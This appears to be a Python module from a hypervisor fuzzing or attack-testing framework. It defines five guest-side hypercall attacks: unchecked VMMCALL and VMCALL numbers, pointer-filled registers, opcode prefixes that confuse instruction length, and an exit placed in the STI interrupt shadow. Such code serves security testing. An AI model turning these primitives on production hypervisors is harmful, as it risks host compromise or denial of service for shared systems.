"""Attacks on the monitor by what it is asked for."""

from __future__ import annotations

from questv.attacks.orders import Orders
from questv.metal.lang import asm, metal, u64


@metal
def call(orders: Orders) -> None:
    """Find a call that the monitor does not check, or an argument that leads it astray."""
    asm("vmmcall", None, "{rax},{rdi},{rsi}", orders.target, orders.value, orders.value)


@metal
def call_with_pointers(orders: Orders) -> None:
    """Have the monitor write or read for one, by addresses in every register."""
    pointer = orders.value
    asm(
        "vmmcall",
        None,
        "{rax},{rdi},{rsi},{rdx},{rcx},{r8}",
        orders.target,
        pointer,
        pointer,
        pointer,
        pointer,
        pointer,
    )


@metal
def call_with_prefixes(orders: Orders) -> None:
    """Have the monitor go on in the middle of an instruction that is longer than it thinks."""
    asm(".byte 0x66, 0x67, 0xF3, 0x48, 0x0F, 0x01, 0xD9", None, "{rax}", orders.target)


@metal
def call_of_another_make(orders: Orders) -> None:
    """Find a call that the monitor does not check, by another maker's instruction: VMCALL."""
    asm("vmcall", None, "{rax}", orders.target)


@metal
def call_in_shadow(orders: Orders) -> None:
    """Have interrupts wait for ever, by an exit right after STI, where they wait for a moment."""
    asm("sti\nvmmcall", None, "{rax},{rdi},{rsi}", orders.target, u64(0), u64(0))
